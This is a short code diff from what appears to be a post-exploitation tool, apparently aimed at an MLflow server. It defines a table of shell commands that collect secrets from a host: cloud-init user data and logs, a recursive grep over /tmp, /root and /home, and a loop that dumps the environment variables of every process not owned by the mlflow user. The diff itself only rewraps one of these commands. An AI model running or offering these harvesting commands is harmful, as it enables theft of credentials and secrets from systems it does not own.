@@ -22,7 +22,8 @@ PLACES = {
     "user data": "cat /var/lib/cloud/instance/user-data.txt /var/log/cloud-init*.log",
     "temporary files": "grep -rhIs . /tmp /var/tmp /root /home --include='*'",
     "environment of everybody's processes but the server's": (
-        "for process in /proc/[0-9]*; do [ $(stat -c %U $process) = mlflow ] || tr '\\0' '\\n' < $process/environ; done"
+        "for process in /proc/[0-9]*; do [ $(stat -c %U $process) = mlflow ] "
+        "|| tr '\\0' '\\n' < $process/environ; done"
     ),
 }
 
